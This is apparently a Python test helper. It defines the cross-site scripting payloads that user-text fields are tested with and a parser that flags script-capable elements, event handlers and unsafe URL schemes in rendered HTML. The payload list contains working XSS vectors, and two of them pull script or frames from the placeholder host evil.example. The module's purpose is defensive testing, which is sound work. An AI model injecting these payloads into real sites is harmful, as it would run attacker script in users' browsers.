"""The XSS payload set every rendered user-text field is tested with, and a checker for HTML output."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pic](javascript:alert(1))",
    "<iframe src=//evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))" onclick=alert(1)>x</div>',
    "<details open ontoggle=alert(1)>",
    "\"><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "[x](vbscript:msgbox(1))",
]

SAFE_SCHEMES = {"", "http", "https", "mailto"}


class _Checker(HTMLParser):
    def __init__(self, own_scripts: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.own_scripts = own_scripts

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "script" and self.own_scripts:
            src, kind = found.get("src") or "", found.get("type") or ""
            if (src.startswith("/") and not src.startswith("//")) or kind == "application/json":
                return  # the page's own script file, or inert JSON data (a breakout shows as a new tag)
        if tag in {"script", "svg", "iframe", "object", "embed", "img", "math", "style", "details", "div"}:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            if name in {"href", "src", "action", "formaction", "xlink:href"} and value is not None:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")


def active_content(html: str, *, allow: frozenset[str] = frozenset(), own_scripts: bool = False) -> list[str]:
    """What in ``html`` could run script: unexpected elements, event handlers, unsafe URL schemes.
    ``allow`` names elements the page itself legitimately has (a page's own ``<style>``); ``own_scripts``
    lets through ``<script src="/…">`` and JSON data blocks, which the application's pages carry."""
    checker = _Checker(own_scripts)
    checker.feed(html)
    checker.close()
    return [p for p in checker.problems if not any(p == f"<{tag}> element" for tag in allow)]
